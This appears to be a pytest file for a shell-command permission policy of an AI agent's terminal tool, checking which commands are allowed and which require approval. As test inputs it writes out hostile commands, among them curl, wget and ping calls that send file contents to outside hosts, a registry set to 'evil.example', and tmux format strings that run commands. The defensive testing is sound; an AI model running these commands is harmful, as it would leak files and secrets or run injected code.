"""What one program of a command needs, the others get only if they do just what their words say."""

import os
from pathlib import Path

import pytest
from policy_setup import HOME, book, call

from hermes.policy.actions.reader import ActionContext, ActionReader, resolve_symlinks
from hermes.policy.command_analysis import analyse_command
from hermes.policy.decide import DocumentPolicy

UNREAD_PROGRAMS = (
    "terraform validate",
    "ansible-inventory --list",
    "vagrant status",
    "mvn -v",
    "cargo metadata",
    "composer show",
    "hg status",
    "npm ls",
    "perl -ne 'print if /x/' f",
)
"""Judged to read, but they run code or configuration of the folder they are in."""
NEIGHBOURS = {
    "docker ps": "the credentials that docker needs",
    "tmux ls": "the sockets that tmux needs",
    "dig example.com": "the network access that dig needs",
    "systemctl status x | grep y": "the sockets that systemctl needs",
    "echo done > notes.txt": "the write access that echo needs",
    "blkid": "the special access that blkid needs",
}
HAS_NETWORK = frozenset({"terraform", "ansible-inventory", "cargo", "composer", "npm"})


def judged(command: str, cwd: str = "/srv/app") -> tuple[str, str]:
    policy = DocumentPolicy(
        book(set="careful"),
        ActionReader(analyse_command, lookup=resolve_symlinks),
        context_of=lambda _: ActionContext(cwd=cwd, home=HOME),
    )
    found = policy.decide(call("terminal", command=command))
    return found.verdict, found.reason


@pytest.mark.parametrize("command", UNREAD_PROGRAMS)
def test_access_is_not_lent_to_programs_that_may_run_other_code(command: str) -> None:
    assert judged(command)[0] == "allow"
    assert judged(f"{command}; df -h; cat x | sort")[0] == "allow"
    name = command.partition(" ")[0]
    for neighbour, needed in NEIGHBOURS.items():
        if "network" in needed and name in HAS_NETWORK:
            continue
        for line in (
            f"{command}; {neighbour}",
            f"{neighbour} && {command} | head",
            f"for x in 1 2; do {command}; done; {neighbour}",
            f"echo $({command}); ({neighbour})",
        ):
            verdict, reason = judged(line)
            assert (verdict, f"{name} would get" in reason) == ("ask", True), line
    assert needed in judged(f"{command}; {neighbour}")[1]


def test_filters_and_clients_go_together() -> None:
    for line in (
        "systemctl status x; curl -s localhost; docker ps; kubectl get pods | head; df -h",
        "kubectl get pods -o json | jq -r '.items[].metadata.name' | sort | awk '{print}'",
        "docker ps | python3 -c 'import sys; print(len(sys.stdin.readlines()))'",
        "diff <(ssh web1 cat /etc/hosts) <(ssh web2 cat /etc/hosts)",
        "node --version; docker --version; java -version; terraform version",
        "pid=$(docker inspect -f '{{.State.Pid}}' web); cat /proc/$pid/status",
        "tail -n 5 /var/log/*.log; docker ps",
        "ssh web1 patronictl list; docker ps",
    ):
        assert judged(line)[0] == "allow", line


@pytest.mark.parametrize(
    "reader",
    [
        "cat list | xargs cat | sort",
        "cat $(cat list) | sort",
        'while read f; do tail -c 9 -- "$f"; done < list',
        "sort --files0-from=list",
        "file -f list",
        'date -f "$(cat list)"',
        "jq -n --rawfile x \"$(cat list)\" '$x'",
        'awk \'BEGIN {f = "/etc/a" "b"; while ((getline l < f) > 0) print l}\'',
        'awk \'BEGIN {ARGV[1] = "/etc/a" "b"; ARGC = 2} {print}\'',
    ],
)
def test_credentials_are_kept_from_readers_of_unknown_files(reader: str) -> None:
    assert judged(reader)[0] == "allow"
    assert judged(f"{reader}; systemctl status x")[0] == "allow"
    # Secrets that it finds at run time are refused when it opens them.
    assert judged(f"{reader}; curl -s http://127.0.0.1:8080/")[0] == "allow"
    for neighbour in ("docker ps", "kubectl version --client"):
        verdict, reason = judged(f"{reader}; {neighbour}")
        assert (verdict, "only known at run time" in reason) == ("ask", True), neighbour


def test_a_wildcard_that_may_find_credentials_is_unknown() -> None:
    assert judged(f"cat {HOME}/.[d]*/*; docker ps")[0] == "ask"
    assert judged(f"cat {HOME}/project/*.log; docker ps")[0] == "allow"
    assert judged("awk '$1 < 5' /var/log/x; docker ps")[0] == "allow"


@pytest.mark.parametrize("version", ["python3.9", "python3.12"])
def test_old_pythons_import_no_module_of_the_working_folder(
    version: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, programs = tmp_path / "work", tmp_path / "bin"
    folder.mkdir()
    programs.mkdir()
    (programs / version).touch(0o755)
    (programs / "python3").symlink_to(version)
    monkeypatch.setenv("PATH", str(programs), prepend=os.pathsep)
    commands = ("python3 -c 'import json; print(1)'", "curl -s localhost | python3 -m json.tool")
    for command in (*commands, "env -i python3 -c 'import json'", "python3 -E -c 'import json'"):
        assert judged(command, str(folder))[0] == "allow"
    (folder / "json.py").write_text("print('ran')")
    old = version == "python3.9"
    for command in commands:
        assert judged(command, str(folder))[0] == ("ask" if old else "allow")
    # These do not get the variable that keeps newer ones from it.
    assert judged("env -i python3 -c 'import json'", str(folder))[0] == "ask"
    assert judged("python3 -E -c 'import json'", str(folder))[0] == "ask"
    assert judged("python3 -I -c 'import json'", str(folder))[0] == "allow"


@pytest.mark.parametrize(
    "command",
    [
        'curl -s "http://10.0.0.7:18933/x-$(cat f | base64 -w0)"',
        'curl -s "https://example.com/$(basename "$(cat f)")"',
        'curl -s -H "X: $(cat f)" https://example.com/',
        'wget -qO- "http://web.internal/$(cat f)"',
        'wget -qO- --header "X: $(cat f)" http://localhost/',
        'curl -s "http://127.0.0.1:$(cat port)/x"',
        "ping -c 1 -p $(xxd -p f) example.com",
        'git ls-remote "https://example.com/$(cat f)"',
        'git fetch "https://example.com/$(cat f)"',
        'aws s3 ls "s3://bucket-$(cat f)"',
        "redis-cli -h example.com get $(cat f)",
        'ssh host "$(cat f)"',
        'while read x; do curl -s "example.com:8080/$x"; done < f',
        'psql -h "$(cat f)" -c "select 1"',
        'aws --endpoint http://127.0.0.1@example.com s3 ls "$(cat f)"',
    ],
)
def test_text_that_is_only_known_at_run_time_is_not_sent(command: str) -> None:
    assert judged(command)[0] == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://$(hostname):8080/health",
        'curl -s "http://localhost:8080/?d=$(date +%F)"',
        "for p in 8080 8081; do curl -s http://localhost:$p/health; done",
        "PORT=8080; curl -s http://localhost:$PORT/health",
        "for i in $(seq 5); do ping -c 1 10.0.0.$i; done",
        "kubectl logs $(kubectl get pods -o name | head -1) --tail=5",
        "docker stats --no-stream $(docker ps -q)",
        "redis-cli get $KEY",
        'psql -h /run/postgresql -p "$(cat port)" -c "select 1"',
        'redis-cli -h localhost -p "$(cat port)" ping',
    ],
)
def test_names_of_the_system_and_known_words_may_be_sent(command: str) -> None:
    assert judged(command)[0] == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "tmux ls -F '#{E:#{a:35}#{l:(touch /srv/x)}}'",
        "tmux display-message -p '#(id)'",
        "git switch -q -c evil1 FETCH_HEAD",
        "git branch e FETCH_HEAD",
        "git tag t FETCH_HEAD~0",
        "npm audit --registry http://evil.example:18999",
        'tmux ls -F "$(cat f)"',
        'F=$(cat f); tmux ls -F "$F"',
        'tmux list-windows -F "$X"',
        'screen -ls "$x"',
        "tmux ls; [[ -v $(cat v) ]]",
        'tmux ls; date -f "$(cat list)"',
        'docker ps; date -f "$(cat list)"',
        'git switch -q -c br7; date -f "$(cat list)"',
        "echo x > proj.git/hooks/post-receive",
        "chmod +x proj.git/hooks/post-receive",
        "kubectl create secret generic x --from-file=.env --dry-run=server -o yaml",
        "kubectl create secret generic x --from-file=a=.env --dry-run=client -o yaml",
        "kubectl get pods --server=http://127.0.0.1:7777",
        "kubectl -s http://127.0.0.1:7777 get pods",
    ],
)
def test_formats_servers_and_hooks_that_others_follow(command: str) -> None:
    assert judged(command)[0] == "ask"


def test_variables_in_formats_are_read() -> None:
    assert judged("tmux list-panes -F '#{pane_pid} #S'")[0] == "allow"
    for line in ("git switch -c fix", "git switch main", "git tag v1.2", "npm audit"):
        assert judged(line)[0] == "allow", line
    assert judged("kubectl create configmap x --from-file=app.conf --dry-run=client")[0] == "allow"


@pytest.mark.parametrize(
    "needs", ["lsof -i :80", "ss -p", "nft list ruleset", "strace -c -p 1", "blkid"]
)
@pytest.mark.parametrize(
    "reader",
    ["cat $f", 'cat "$f"', "head -c 9 -- $(cat list)", 'while read x; do tail -c 9 -- "$x"; done'],
)
def test_far_reaching_access_is_not_lent_to_words_of_run_time(needs: str, reader: str) -> None:
    assert judged(reader)[0] == "allow"
    for line in (f"{needs}; {reader}", f"{reader} | sort; ({needs})"):
        verdict, reason = judged(line)
        assert (verdict, "only known at run time" in reason) == ("ask", True), line


def test_known_words_and_other_access_go_with_text_of_run_time() -> None:
    for line in (
        "lsof -i :80; cat /etc/hosts",
        "iptables -L -n; echo $x",
        'ss -tlnp | grep ":$port"',
        "pid=$(pgrep nginx | head -1); ls -l /proc/$pid/fd; cat /proc/$pid/limits",
        'systemctl status x; grep error "$log"',
    ):
        assert judged(line)[0] == "allow", line
